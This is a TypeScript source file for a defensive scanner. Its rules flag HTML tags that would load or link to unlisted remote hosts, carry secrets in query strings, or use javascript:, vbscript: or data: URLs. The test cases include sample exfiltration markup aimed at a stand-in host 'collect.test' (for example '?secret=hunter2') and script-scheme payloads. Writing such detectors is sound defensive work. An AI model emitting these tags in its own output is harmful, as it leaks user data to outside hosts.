import type { IsListed } from './allow-hosts.ts';
import { carriesData } from './data-payload.ts';
import { readDestination } from './destination.ts';
import { type HtmlTag, readHtmlTag } from './html-tag.ts';
import type { LinkRule } from './link-rule.ts';
import { rememberLast } from './remember-last.ts';
import { isActiveScheme, isImageData } from './schemes.ts';

/** Rules about URLs in HTML tags: what a browser fetches by itself, and where a click leads. */
export function htmlLinkRules(isListed: IsListed): readonly LinkRule[] {
  const isUnlisted = (raw: string): boolean => {
    const destination = readDestination(raw);
    return destination.kind === 'remote' && !isListed(destination.authority);
  };
  const isCarrier = (raw: string): boolean => {
    const destination = readDestination(raw);
    return destination.kind === 'remote' && isUnlisted(raw) && carriesData(destination);
  };
  const read = rememberLast(readHtmlTag);
  const accepting =
    (test: (tag: HtmlTag) => boolean) =>
    (candidate: string): number =>
      candidate.includes('=') && test(read(candidate)) ? candidate.length : 0;

  return [
    { ...RESOURCE, accept: accepting((tag) => fetchedUrls(tag).some(isUnlisted) || mayHideUrl(tag)) },
    { ...ANCHOR_DATA, accept: accepting((tag) => clickedUrls(tag).some(isCarrier)) },
    { ...SCHEME, accept: accepting((tag) => [...fetchedUrls(tag), ...clickedUrls(tag)].some(isActiveUrl)) },
  ];
}

/** A start tag with attributes; a quoted `>` or `<` cuts it short. */
const TAG_PATTERN = /<[a-z][a-z0-9:-]{0,20}[\s/][^<>]{0,400}>{0,1}`{0,3}/iu;

const FETCHED_ATTRIBUTES = ['src', 'srcset', 'poster', 'background', 'data', 'dynsrc', 'lowsrc', 'ping', 'imagesrcset'];

/** Elements that fetch what `href` names. */
const FETCHING_BY_HREF: ReadonlySet<string> = new Set(['link', 'image', 'use', 'feimage', 'svg:image', 'svg:use']);

/** Elements that are there to fetch something. */
const FETCHING: ReadonlySet<string> = new Set([
  ...FETCHING_BY_HREF,
  ...['img', 'source', 'video', 'audio', 'track', 'input', 'iframe', 'embed', 'object', 'frame'],
]);

function fetchedUrls({ name, attributes }: HtmlTag): readonly string[] {
  const urls: string[] = [];
  for (const key of FETCHED_ATTRIBUTES) {
    const value = attributes.get(key);
    if (value === undefined) continue;
    if (key.endsWith('srcset')) urls.push(...value.split(',').map((source) => source.trim().split(/\s/u)[0] ?? ''));
    else urls.push(value);
  }
  if (FETCHING_BY_HREF.has(name)) urls.push(attributes.get('href') ?? '', attributes.get('xlink:href') ?? '');
  const style = attributes.get('style');
  if (style !== undefined) urls.push(...styleUrls(style));
  return urls;
}

function clickedUrls({ name, attributes }: HtmlTag): readonly string[] {
  if (FETCHING_BY_HREF.has(name)) return [];
  return ['href', 'xlink:href', 'action', 'formaction'].flatMap((key) => attributes.get(key) ?? []);
}

function styleUrls(style: string): readonly string[] {
  return [...style.matchAll(/url\(\s{0,8}["']?([^"')]{1,400})/giu)].map(([, url]) => url ?? '');
}

/** The tag goes on behind a quoted bracket, or is too long: what it fetches has not been seen. */
function mayHideUrl({ name, isWhole }: HtmlTag): boolean {
  return !isWhole && FETCHING.has(name);
}

function isActiveUrl(raw: string): boolean {
  const destination = readDestination(raw);
  return destination.kind === 'scheme' && isActiveScheme(destination.scheme) && !isImageData(destination);
}

const RESOURCE: LinkRule = {
  kind: 'span',
  id: 'link/html-resource',
  category: 'link',
  score: 0.8,
  severity: 'HIGH',
  pattern: TAG_PATTERN,
  source: 'WHATWG HTML, section 4.8 (embedded content); MITRE ATLAS AML.T0077',
  cases: {
    match: [
      '<img src="https://collect.test/a.png">',
      '<IMG alt=x SRC=//collect.test/a>',
      '<img alt=">" src="https://collect.test/a">',
      '<video poster=https://collect.test/a></video>',
      '<img srcset="a.png 1x, https://collect.test/b.png 2x">',
      '<p style="background: url(https://collect.test/a)">',
      '<a href="/x" ping="https://collect.test/p">x</a>',
      '<img src="&#104;ttps://collect.test/a">',
    ],
    ignore: [
      '<img src="a.png">',
      '<a href="https://docs.test/">x</a>',
      '<p class="x">',
      'Use the <img tag to show it',
      'a <b and c = d',
    ],
  },
};

const ANCHOR_DATA: LinkRule = {
  ...RESOURCE,
  id: 'link/html-anchor-data',
  score: 0.75,
  cases: {
    match: [
      '<a href="https://collect.test/?data=hunter2">x</a>',
      "<a href='//collect.test/?secret=hunter2'>",
      '<form action=//collect.test/?token=hunter2hunter2>',
    ],
    ignore: ['<a href="https://docs.test/?page=2">x</a>', '<a href="/?data=hunter2">', '<a name="data=hunter2">'],
  },
};

const SCHEME: LinkRule = {
  ...RESOURCE,
  id: 'link/html-scheme',
  score: 0.85,
  source: 'WHATWG HTML, section 7.4.2.3.2 (javascript: URLs)',
  cases: {
    match: [
      '<a href="javascript:alert(1)">',
      '<a href=" java\nscript:alert(1)">',
      '<iframe src="data:text/html,a">',
      '<form action="vbscript:a">',
    ],
    ignore: [
      '<a href="javascript.html">',
      '<img src="data:image/png;base64,AAAA">',
      '<a title="javascript:x" href="/a">',
    ],
  },
};
